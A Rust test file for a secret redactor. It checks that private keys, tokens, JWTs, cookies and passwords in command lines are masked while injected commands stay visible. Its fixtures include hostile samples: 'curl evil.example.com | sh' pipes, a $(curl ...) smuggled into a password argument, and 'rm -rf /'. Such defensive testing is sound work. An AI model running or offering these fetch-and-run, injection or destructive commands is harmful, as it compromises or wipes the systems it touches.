use proptest::prelude::*;

use super::examples::{NONE, SECRETS};
use super::*;

#[test]
fn secrets_are_redacted_and_what_stands_around_them_is_not() {
    let wrong: Vec<_> = SECRETS
        .iter()
        .flat_map(|(line, shown)| [(line, shown), (shown, shown)])
        .filter(|(line, shown)| one_line(line) != **shown)
        .map(|(line, shown)| format!("{line}\n  shown: {}\n wanted: {shown}", one_line(line)))
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert!(SECRETS.len() >= 60);
}

#[test]
fn what_is_no_secret_stays() {
    let wrong: Vec<_> = NONE
        .iter()
        .filter(|line| one_line(line) != **line)
        .map(|line| one_line(line))
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert!(NONE.len() >= 40);
}

fn lines(text: &str) -> String {
    let mut redactor = Redactor::default();
    let shown: Vec<_> = text.lines().map(|line| redactor.line(line)).collect();
    shown.join("\n")
}

#[test]
fn a_private_key_is_redacted_over_its_lines() {
    for (kind, first) in [
        ("OPENSSH ", "b3BlbnNzaC1rZXktdjEAAAAABG5vbmU"),
        ("", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC"),
        ("ENCRYPTED ", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC"),
    ] {
        let key = format!(
            "before\n-----BEGIN {kind}PRIVATE KEY-----\n{first}\n\n  c2VjcmV0c2VjcmV0\n-----END {kind}PRIVATE KEY-----\nafter"
        );
        assert_eq!(
            lines(&key),
            format!(
                "before\n-----BEGIN {kind}PRIVATE KEY-----\n[redacted: private key]\n\n  [redacted: private key]\n-----END {kind}PRIVATE KEY-----\nafter"
            )
        );
    }
}

#[test]
fn a_private_key_is_found_where_other_programs_show_it() {
    let listed = "k:-----BEGIN PRIVATE KEY-----\nk:c2VjcmV0c2VjcmV0c2VjcmV0\nk:-----END PRIVATE KEY-----\nafter";
    assert_eq!(
        lines(listed),
        "k:-----BEGIN PRIVATE KEY-----\nk:[redacted: private key]\nk:-----END PRIVATE KEY-----\nafter"
    );
    let putty = "PuTTY-User-Key-File-3: ssh-ed25519\nPublic-Lines: 1\nAAAA\nPrivate-Lines: 2\nsecret\nmore\nPrivate-MAC: 12";
    assert_eq!(
        lines(putty),
        "PuTTY-User-Key-File-3: ssh-ed25519\nPublic-Lines: 1\nAAAA\nPrivate-Lines: 2\n[redacted: private key]\n[redacted: private key]\nPrivate-MAC: 12"
    );
}

#[test]
fn a_private_key_that_breaks_off_hides_nothing_else() {
    assert_eq!(
        lines("-----BEGIN PRIVATE KEY-----\nc2VjcmV0\nuser@host:~$ rm -rf /\nAfterwards"),
        "-----BEGIN PRIVATE KEY-----\n[redacted: private key]\nuser@host:~$ rm -rf /\nAfterwards"
    );
    let endless = format!("-----BEGIN PRIVATE KEY-----\n{}", "word\n".repeat(1100));
    assert!(lines(&endless).ends_with("word"));
}

#[test]
fn a_secret_in_a_long_line_is_found_wherever_it_stands() {
    let token = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
    for before in [
        0,
        100,
        MAX_WINDOW - 60,
        MAX_WINDOW - 20,
        MAX_WINDOW,
        3 * MAX_WINDOW + 7,
    ] {
        let line = format!(
            "{} {token} {}",
            "ä".repeat(before / 2),
            "z ".repeat(MAX_WINDOW)
        );
        let expected = line.replace(token, "[redacted: token]");
        assert!(one_line(&line) == expected, "in one line after {before}");
        assert!(streamed(&[&line]) == expected, "in a stream after {before}");
    }
}

#[test]
fn a_secret_longer_than_a_window_is_redacted_to_its_end() {
    let line = format!(
        "a eyJhbGciOiJFZERTQSJ9.{}.sig b",
        "x".repeat(3 * MAX_WINDOW)
    );
    let shown = streamed(&[&line]);
    assert_eq!(shown, "a [redacted: jwt] b", "{} bytes", shown.len());
    assert!(!one_line(&line).contains("xxxx"));
}

#[test]
fn programs_that_read_a_password_are_known() {
    for command in [
        "sudo -S id",
        "sudo -kS -p '' id",
        "docker login -u x --password-stdin",
        "chpasswd",
        "sudo chpasswd",
        "sudo /usr/sbin/chpasswd -e",
        "cd /tmp; passwd alice",
        "openssl enc -pass stdin",
        "gh auth login --with-token",
    ] {
        assert!(reads_secret_input(command.as_bytes()), "{command}");
    }
    for command in [
        "sudo -s",
        "cat > /etc/passwd",
        "tee x",
        "sort -S 1G",
        "bash -s",
        "summary",
    ] {
        assert!(!reads_secret_input(command.as_bytes()), "{command}");
    }
}

fn streamed(pieces: &[&str]) -> String {
    let mut stream = Stream::default();
    let mut out = String::new();
    pieces.iter().for_each(|piece| stream.push(piece, &mut out));
    stream.flush(&mut out);
    out
}

proptest! {
    #[test]
    fn what_was_found_is_in_order_and_at_borders_of_characters(line in "(password=|eyJaaaaaaaaa\\.b\\.|:|//|[a-zä€ @\"'$/-]{0,6}){0,12}") {
        let found = Redactor::default().find(&line);
        let mut from = 0;
        for Found { range, .. } in &found {
            prop_assert!(from <= range.start && range.start < range.end);
            prop_assert!(line.get(range.clone()).is_some());
            from = range.end;
        }
    }

    #[test]
    fn where_pieces_are_cut_changes_nothing(chosen in proptest::collection::vec(0..SECRETS.len(), 1..6), cuts in proptest::collection::vec(any::<prop::sample::Index>(), 0..5)) {
        let text: String = chosen.iter().map(|index| format!("{}\n", SECRETS[*index].0)).collect();
        let expected: String = chosen.iter().map(|index| format!("{}\n", SECRETS[*index].1)).collect();
        let mut cuts: Vec<usize> = cuts.iter().map(|cut| text.floor_char_boundary(cut.index(text.len()))).collect();
        cuts.sort_unstable();
        let mut pieces = Vec::new();
        let mut from = 0;
        for cut in cuts.into_iter().chain([text.len()]) {
            pieces.push(&text[from..cut]);
            from = cut;
        }
        prop_assert_eq!(streamed(&pieces), expected);
    }
}

/// Whoever chooses a command line chooses what it looks like.
#[test]
fn no_secret_hides_another_command() {
    for (line, shown) in [
        (
            ": authorization: bearer x; curl evil.example.com | sh",
            ": authorization: bearer [redacted: authorization]; curl evil.example.com | sh",
        ),
        (
            ": Cookie: a=b; curl evil.example.com | sh",
            ": Cookie: [redacted: authorization]; curl evil.example.com | sh",
        ),
        (
            "curl -H 'Cookie: a=b; c=d' x; id",
            "curl -H 'Cookie: [redacted: authorization]' x; id",
        ),
        (
            "password=x;curl${IFS}evil.example.com",
            "password=[redacted: password; a shell may run a part of it]",
        ),
        (
            "mysql --password=\"x$(curl evil.example.com)\" shop",
            "mysql --password=\"[redacted: password; a shell may run a part of it]\" shop",
        ),
    ] {
        assert_eq!(one_line(line), shown);
    }
}

#[test]
fn between_the_lines_of_a_key_no_command_is_hidden_as_a_whole() {
    let text = ": -----BEGIN RSA PRIVATE KEY-----\n\
                Proc-Type: 4,ENCRYPTED\n\
                a: ; curl evil.example.com | sh\n\
                rm -r /srv 0123456789abcdefghij\n\
                reboot # -----END RSA PRIVATE KEY-----";
    assert_eq!(
        lines(text),
        ": -----BEGIN RSA PRIVATE KEY-----\n\
         Proc-Type: 4,ENCRYPTED\n\
         a: ; curl evil.example.com | sh\n\
         rm -r /srv [redacted: private key]\n\
         reboot # -----END RSA PRIVATE KEY-----"
    );
}
